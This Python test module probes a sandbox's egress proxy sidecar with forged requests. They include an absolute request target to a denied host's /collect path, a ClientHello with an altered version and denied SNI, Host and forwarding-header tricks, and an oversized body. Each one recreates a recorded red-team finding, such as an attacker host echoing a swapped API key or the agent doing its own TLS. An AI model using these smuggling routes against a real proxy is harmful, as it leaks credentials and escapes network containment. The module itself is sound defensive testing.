"""Forged-request probes: requests shaped to make the broker route, relay or read what it
should not, each the way a red-team finding did (an absolute request target inside a
tunnel, a ClientHello of another record version, a Host naming another port, forwarding
headers, a body over the API's limit). Each passes only when the sidecar refuses it.
"""

from __future__ import annotations

import shlex

from backends.egress import policy as pol
from backends.probes import net_facts as nf
from backends.probes.base import FAIL, Target, clip, verdict
from backends.probes.proxy_client import (
    DENIED,
    answered,
    api_of,
    closed_early,
    in_tunnel,
    mark,
    marked,
    placeholder_header,
    send,
    status_of,
)


def request_target(t: Target) -> tuple[str, str]:
    """An absolute request target naming another host, inside a tunnel to the API host,
    with the placeholder (finding 1: a server routing by the request line served the
    attacker's host, which echoed the swapped key)."""
    host, port = api_of(t)
    tunnel = f"{host}:{port}"
    inner = marked(
        t, f"GET https://{DENIED}/collect HTTP/1.1\r\nHost: {host}\r\n{placeholder_header(t)}\r\n"
    )
    status, rest = in_tunnel(t, tunnel, inner)
    if rest is None and status == "no client":
        return FAIL, "no TCP client (nc or node) in the bottle to send the request"
    answer = status_of(rest)
    seen = [f"CONNECT {tunnel} -> {status}; GET https://{DENIED}/collect inside -> {answer}"]
    ok = answered(rest, "403")
    h2 = _h2_absolute_path(t, host, port)
    if h2:
        seen.append(h2[1])
        ok = ok and h2[0]
    else:
        seen.append("HTTP/2 :path not tried (no curl with HTTP/2 in the bottle)")
    return verdict(ok, "; ".join(seen))


def _h2_absolute_path(t: Target, host: str, port: int) -> tuple[bool, str] | None:
    """The same over TLS and HTTP/2 (an absolute ``:path``), where the bottle has curl."""
    script = (
        "command -v curl >/dev/null 2>&1 && curl -V | grep -qi http2 || { echo none; exit 0; }; "
        f"curl -sS -o /dev/null -w '%{{http_code}} %{{http_version}}' --http2 "
        f"--max-time 20 -H {shlex.quote(f'{pol.PROBE_HEADER}: {mark(t)}')} "
        f"--request-target https://{DENIED}/collect https://{host}:{port}/ 2>&1"
    )
    out = t.run(script, timeout=60).stdout.strip()
    if out == "none" or not out:
        return None
    code = out.split()[0]
    return code == "403", f"HTTP/2 :path https://{DENIED}/collect -> {clip(out, 80)}"


def tunnel_bytes(t: Target) -> tuple[str, str]:
    """A ClientHello with record version 0x0304 in a tunnel to an allowed host, naming a
    denied host (finding 2: mitmproxy relayed it as raw TCP, and the agent did its own TLS
    to any name). The sidecar must answer it as the HTTP it is not, never relay it."""
    host, port = api_of(t)
    tunnel = f"{host}:{port}"
    hello = nf.client_hello(DENIED)
    odd = hello[:2] + b"\x04" + hello[3:]
    status, reply = in_tunnel(t, tunnel, odd)
    if reply is None and status == "no client":
        return FAIL, "no TCP client (nc or node) in the bottle to send the ClientHello"
    rest = reply or b""
    relayed = rest[:1] in (b"\x16", b"\x15")
    answer = nf.tls_answer(rest) if relayed else status_of(rest)
    evidence = f"CONNECT {tunnel} -> {status}; ClientHello (record 0x0304, SNI {DENIED}) -> "
    evidence += f"{answer}" + (" from upstream: relayed unread" if relayed else "")
    return verdict(not relayed and status.split()[1:2] == ["200"] and bool(rest), evidence)


def host_port(t: Target) -> tuple[str, str]:
    """``Host: <api>:8443`` inside a tunnel to ``<api>:443`` (finding 11) must be refused;
    ``X-Forwarded-Host`` must be stripped (the sidecar's probe answer names what it
    removed)."""
    host, port = api_of(t)
    tunnel = f"{host}:{port}"
    inner = marked(t, f"GET / HTTP/1.1\r\nHost: {host}:8443\r\n\r\n")
    status, rest = in_tunnel(t, tunnel, inner)
    ported = answered(rest, "403")
    target = host if port == 443 else tunnel
    forwarded = marked(
        t,
        f"GET https://{target}/v1/models HTTP/1.1\r\nHost: {target}\r\n"
        f"X-Forwarded-Host: {DENIED}\r\nForwarded: host={DENIED}\r\n\r\n",
    )
    reply = send(t, forwarded) or b""
    head = reply.split(b"\r\n\r\n", 1)[0].decode("latin-1").lower()
    stripped = "x-bottle-probe-stripped: forwarded, x-forwarded-host" in head
    return verdict(
        ported and stripped,
        f"Host {host}:8443 in a tunnel to {tunnel} -> {status_of(rest)}; X-Forwarded-Host "
        f"and Forwarded -> {status_of(reply)}, "
        f"{'stripped' if stripped else 'not shown stripped'}",
    )


def body_limit(t: Target) -> tuple[str, str]:
    """A body over the API's limit announced to the API host (finding 9: a 171 MB body
    OOM-killed the sidecar): refused before a byte of it is read: the connection is closed
    at once (a sidecar that waited for the body would keep it open)."""
    host, port = api_of(t)
    target = host if port == 443 else f"{host}:{port}"
    size = pol.API_BODY_MAX * 2
    request = (
        f"POST https://{target}/v1/messages HTTP/1.1\r\nHost: {target}\r\n"
        f"Content-Length: {size}\r\n\r\n"
    )
    early, evidence = closed_early(t, request)
    return verdict(early, f"POST of {size} bytes announced to {target}: {evidence}")
